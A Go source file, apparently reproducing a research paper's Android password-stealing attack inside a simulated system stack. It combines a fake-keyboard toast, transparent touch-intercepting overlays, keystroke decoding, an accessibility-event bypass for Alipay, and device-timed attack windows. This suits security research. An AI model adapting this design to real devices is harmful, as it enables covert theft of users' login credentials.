package core

import (
	"errors"
	"fmt"
	"time"

	"repro/internal/apps"
	"repro/internal/binder"
	"repro/internal/device"
	"repro/internal/geom"
	"repro/internal/keyboard"
	"repro/internal/sysserver"
	"repro/internal/uikit"
	"repro/internal/wm"
)

// PasswordStealerConfig configures the combined password-stealing attack
// of Section V.
type PasswordStealerConfig struct {
	// App is the malicious package (holds SYSTEM_ALERT_WINDOW and has an
	// accessibility service bound).
	App binder.ProcessID
	// Victim is the login screen under attack.
	Victim *apps.LoginSession
	// Keyboard is the keyboard geometry, aligned pixel-for-pixel with
	// the victim's real IME (the attacker derives it by offline analysis
	// of the keyboard layout).
	Keyboard *keyboard.Keyboard
	// D is the draw-and-destroy overlay attacking window; the attacker
	// selects the device's Table II upper bound after reading the phone
	// model.
	D time.Duration
	// ToastDuration is the fake-keyboard toast duration; defaults to
	// LENGTH_LONG (3.5 s) to minimize hand-offs.
	ToastDuration time.Duration
}

// PasswordStealer arms on a victim login screen and, once the password
// widget takes focus, runs the draw-and-destroy toast attack (fake
// keyboard) and the draw-and-destroy overlay attack (transparent
// UI-intercepting overlays over the fake keyboard) simultaneously. Each
// intercepted DOWN coordinate is decoded to the Euclidean-nearest key on
// the attacker's current sub-keyboard; transition keys swap the fake
// keyboard; decoded characters are filled into the real password widget
// through the captured accessibility node reference to keep the user
// unsuspecting.
type PasswordStealer struct {
	stack *sysserver.Stack
	cfg   PasswordStealerConfig

	overlay *OverlayAttack
	toast   *ToastAttack
	decoder *keyboard.Decoder

	armed   bool
	active  bool
	stopped bool

	// passwordRef is the accessibility node reference of the password
	// widget, obtained directly from its focus event or — when the app
	// suppresses password-widget events (Alipay) — via the getParent()
	// bypass from the username widget.
	passwordRef *uikit.View
	// pendingTypePair is set by a TYPE_VIEW_TEXT_CHANGED from the
	// username widget and cleared by the CONTENT_CHANGED that follows
	// it; a CONTENT_CHANGED arriving with no pending pair is the lone
	// event that signals focus leaving the widget (Section VI-C1).
	pendingTypePair bool

	// capture statistics
	downs, ups, cancels uint64
	startedAt           time.Duration

	// firstErr records the first failure inside event callbacks, which
	// have nowhere to return an error; runners check Err after the run.
	firstErr error
}

// Err reports the first failure the stealer hit inside a callback (nil
// normally), including errors surfaced by its sub-attacks.
func (p *PasswordStealer) Err() error {
	if p.firstErr != nil {
		return p.firstErr
	}
	if p.overlay != nil {
		if err := p.overlay.Err(); err != nil {
			return err
		}
	}
	if p.toast != nil {
		if err := p.toast.Err(); err != nil {
			return err
		}
	}
	return nil
}

func (p *PasswordStealer) fail(err error) {
	if p.firstErr == nil {
		p.firstErr = err
	}
}

// SelectAttackWindow implements the attacker's device fingerprinting step
// (Section VI-B: "the malicious app can collect the phone information
// before launching the attack so as to select an appropriate upper
// boundary of D"): it returns 90% of the phone's known Λ1 bound, clamped
// to a sane range, or a conservative 50 ms default for unknown hardware.
func SelectAttackWindow(p device.Profile) time.Duration {
	if p.PaperUpperBoundD <= 0 {
		return 50 * time.Millisecond // unknown phone: conservative default
	}
	d := time.Duration(float64(p.PaperUpperBoundD) * 0.9)
	const floor = 30 * time.Millisecond
	if d < floor {
		return floor
	}
	return d
}

// NewPasswordStealer validates the configuration. A zero D selects the
// fingerprinted window for the stack's device via SelectAttackWindow.
func NewPasswordStealer(stack *sysserver.Stack, cfg PasswordStealerConfig) (*PasswordStealer, error) {
	if stack == nil {
		return nil, errors.New("core: nil stack")
	}
	if cfg.App == "" {
		return nil, errors.New("core: empty attacker app")
	}
	if cfg.Victim == nil {
		return nil, errors.New("core: nil victim session")
	}
	if cfg.Keyboard == nil {
		return nil, errors.New("core: nil keyboard geometry")
	}
	if cfg.D == 0 {
		cfg.D = SelectAttackWindow(stack.Profile)
	}
	if cfg.D < 0 {
		return nil, fmt.Errorf("core: negative attacking window %v", cfg.D)
	}
	if cfg.ToastDuration == 0 {
		cfg.ToastDuration = sysserver.ToastLong
	}
	return &PasswordStealer{stack: stack, cfg: cfg}, nil
}

// Arm binds the malicious accessibility service to the victim activity and
// waits for the moment the user is about to type the password.
func (p *PasswordStealer) Arm() error {
	if p.armed {
		return errors.New("core: stealer already armed")
	}
	p.armed = true
	p.cfg.Victim.Activity.RegisterAccessibilityListener(p.onAccessibilityEvent)
	return nil
}

// onAccessibilityEvent implements the two trigger paths of Sections V and
// VI-C1.
func (p *PasswordStealer) onAccessibilityEvent(ev uikit.Event) {
	if p.active || p.stopped {
		return
	}
	victim := p.cfg.Victim
	switch {
	case ev.Source == victim.Password && ev.Type == uikit.EventViewFocused:
		// Normal path: the password widget dispatches its focus event,
		// which both times the attack and hands over the node reference.
		p.passwordRef = ev.Source
		p.startAttack()
	case ev.Source == victim.Username && ev.Type == uikit.EventViewTextChanged:
		p.pendingTypePair = true
	case ev.Source == victim.Username && ev.Type == uikit.EventWindowContentChanged:
		// Alipay path: a CONTENT_CHANGED not paired with a preceding
		// TEXT_CHANGED means focus left the username widget — the user
		// is moving to the password field, whose own events are
		// suppressed.
		if p.pendingTypePair {
			p.pendingTypePair = false
			return
		}
		p.derivePasswordRefViaParent(ev.Source)
		p.startAttack()
	}
}

// derivePasswordRefViaParent is the paper's Alipay bypass: getParent() on
// the username widget, then enumerate the children for the password input.
func (p *PasswordStealer) derivePasswordRefViaParent(username *uikit.View) {
	parent := username.Parent()
	if parent == nil {
		return
	}
	for _, child := range parent.Children() {
		if child.Password {
			p.passwordRef = child
			return
		}
	}
}

// startAttack deploys both draw-and-destroy attacks over the keyboard
// area.
func (p *PasswordStealer) startAttack() {
	p.active = true
	p.startedAt = p.stack.Clock.Now()
	p.decoder = keyboard.NewDecoder(p.cfg.Keyboard)

	toast, err := NewToastAttack(p.stack, ToastAttackConfig{
		App:      p.cfg.App,
		Bounds:   p.cfg.Keyboard.Bounds(),
		Duration: p.cfg.ToastDuration,
		Content:  func() string { return "fake-keyboard:" + p.decoder.Board().String() },
	})
	if err != nil {
		// The sub-attack configs derive from the stealer's own validated
		// config; a failure here means the attack never deploys.
		p.fail(fmt.Errorf("core: build toast attack: %w", err))
		p.active = false
		return
	}
	p.toast = toast
	overlay, err := NewOverlayAttack(p.stack, OverlayAttackConfig{
		App:     p.cfg.App,
		D:       p.cfg.D,
		Bounds:  p.cfg.Keyboard.Bounds(),
		OnTouch: p.onInterceptedTouch,
	})
	if err != nil {
		p.fail(fmt.Errorf("core: build overlay attack: %w", err))
		p.active = false
		return
	}
	p.overlay = overlay
	if err := p.toast.Start(); err != nil {
		p.fail(fmt.Errorf("core: start toast attack: %w", err))
	}
	if err := p.overlay.Start(); err != nil {
		p.fail(fmt.Errorf("core: start overlay attack: %w", err))
	}
}

// onInterceptedTouch consumes the touch events the transparent overlays
// capture. The DOWN coordinate is all the inference needs; UP/CANCEL are
// tallied for the capture-rate statistics.
func (p *PasswordStealer) onInterceptedTouch(ev wm.TouchEvent) {
	switch ev.Action {
	case wm.ActionDown:
		p.downs++
		p.observeDown(ev.Pos)
	case wm.ActionUp:
		p.ups++
	case wm.ActionCancel:
		p.cancels++
	}
}

func (p *PasswordStealer) observeDown(pos geom.Point) {
	before := p.decoder.Board()
	key := p.decoder.Observe(pos)
	if p.decoder.Board() != before {
		// Transition key: swap the fake keyboard toast to the new
		// sub-keyboard immediately.
		if err := p.toast.SwitchContent(); err != nil {
			p.fail(fmt.Errorf("core: switch fake keyboard: %w", err))
		}
	}
	if (key.Kind == keyboard.KindChar || key.Kind == keyboard.KindSpace || key.Kind == keyboard.KindBackspace) && p.passwordRef != nil {
		// Fill the real widget so the user sees the expected dots.
		p.passwordRef.SetText(p.decoder.Password())
	}
	if key.Kind == keyboard.KindEnter {
		p.Stop()
	}
}

// Active reports whether the attack is currently intercepting.
func (p *PasswordStealer) Active() bool { return p.active }

// Stop tears both attacks down. Safe to call more than once.
func (p *PasswordStealer) Stop() {
	if !p.active || p.stopped {
		return
	}
	p.stopped = true
	p.active = false
	p.overlay.Stop()
	p.toast.Stop()
}

// StolenPassword reports the decoded password (empty before the attack
// triggered).
func (p *PasswordStealer) StolenPassword() string {
	if p.decoder == nil {
		return ""
	}
	return p.decoder.Password()
}

// CaptureStats reports the intercepted-event tallies: downs (keystroke
// coordinates obtained), ups (complete gestures) and cancels (gestures cut
// by an overlay swap).
func (p *PasswordStealer) CaptureStats() (downs, ups, cancels uint64) {
	return p.downs, p.ups, p.cancels
}
